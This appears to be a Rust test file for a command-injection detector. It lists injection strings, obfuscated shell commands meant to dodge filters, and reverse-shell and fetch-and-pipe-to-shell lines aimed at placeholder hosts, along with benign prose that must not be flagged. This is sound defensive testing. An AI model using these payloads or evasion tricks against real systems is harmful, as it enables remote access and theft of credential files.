@@ -1,0 +1,145 @@
+//! Commands in every spelling, and what looks like them.
+
+use super::super::tests::{found, found_at};
+use super::*;
+
+#[track_caller]
+fn finds(rule: &str, texts: &[&str]) {
+    for text in texts {
+        assert!(
+            found(&ANALYZER, text).contains(&rule),
+            "{rule}: {text}: {:?}",
+            found(&ANALYZER, text)
+        );
+    }
+}
+
+#[test]
+fn commands_behind_separators_and_in_substitutions_are_found() {
+    finds(
+        "further_command",
+        &[
+            "1;id",
+            "1 | whoami",
+            "a && cat /etc/passwd",
+            "127.0.0.1;ls -la",
+            "1|id",
+            "x|nslookup a.example",
+            "& dir C:\\",
+            "1;sleep 5",
+            "a|ping -c 3 127.0.0.1",
+            "x || uname -a",
+            "x;/bin/ls",
+            "1&ipconfig /all",
+            "a;wget http://a.example/x",
+            "x\n/usr/bin/id -u",
+            "';cat ../../x;'",
+            "a;nc -lp 4444",
+        ],
+    );
+    finds(
+        "run_and_replaced",
+        &[
+            "$(id)",
+            "a$(cat /etc/passwd)b",
+            "`whoami`",
+            "x`ls -la`",
+            "$(sleep 5)",
+            "<(curl http://a.example)",
+        ],
+    );
+}
+
+#[test]
+fn words_that_hide_a_program_are_found() {
+    finds(
+        "hidden_command",
+        &[
+            ";c'a't /etc/passwd",
+            "w\"h\"o'a'mi;",
+            "c\\at /etc/passwd",
+            "/???/c?t /etc/passwd",
+            "|/b?n/l?",
+            "cu$@rl http://a.example/",
+            "/bin/c*t /x",
+            "wh$1oami;",
+            "who^ami|",
+            "$u/bin$u/cat$u $u/etc$u/passwd$u",
+        ],
+    );
+    finds(
+        "variable_for_blank",
+        &[
+            "cat$IFS/etc/passwd",
+            ";cat${IFS}/etc/passwd",
+            "ls${IFS}-la",
+            "|ping${IFS}-c${IFS}3",
+            "$(cat$IFS$9/etc/passwd)",
+            "curl$IFS$a.example",
+        ],
+    );
+    finds(
+        "remote_shell",
+        &[
+            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+            "nc 198.51.100.7 4444 -e /bin/sh",
+            "curl http://a.example/x | sh",
+            "echo aWQ= | base64 -d | bash",
+            "powershell -nop -e SQBFAFgA",
+            "IEX(New-Object Net.WebClient).DownloadString('http://a.example')",
+        ],
+    );
+}
+
+#[test]
+fn sentences_and_programs_of_other_kinds_are_not() {
+    for text in [
+        "dogs; cats",
+        "Q&A; more",
+        "find & replace",
+        "R&D",
+        "Tom & Jerry | cat and mouse",
+        "a; b; c",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0)",
+        "time & date",
+        "it's; who else",
+        "price < 5 | price > 10",
+        "rock & roll; head over heels",
+        "sort by: name | date",
+        "x && y",
+        "f(x); g(y)",
+        "the host; a party",
+        "(less) & (more)",
+        "don't 'type' here",
+        "50% & more",
+        "a|b|c",
+        "kill two birds; net gain",
+        "echo & the bunnymen",
+        "sid=1; theme=dark; id=5",
+        "id|name|date",
+        "who? what? when?",
+        "say \"cat\" twice",
+    ] {
+        assert_eq!(found(&ANALYZER, text), [""; 0], "{text}");
+    }
+    let document = "To list files:\n\n    ls -la; cat notes.txt\n\nThen `curl -O https://a.example/x`, and wait.\n";
+    assert_eq!(
+        found_at(&ANALYZER, document.as_bytes(), PlaceKind::Body),
+        [""; 0]
+    );
+}
+
+/// Known misses: a program that nobody knows, and commands that need no separator.
+#[test]
+fn unknown_programs_are_missed() {
+    for text in ["x;mytool", "id", "whoami"] {
+        assert_eq!(found(&ANALYZER, text), [""; 0], "{text}");
+    }
+}
+
+#[test]
+fn many_separators_cost_no_more_than_their_length() {
+    for unit in [";", "|a", "$(", "`", "&\"", ";$a", ";????"] {
+        found(&ANALYZER, &unit.repeat(30_000));
+    }
+}
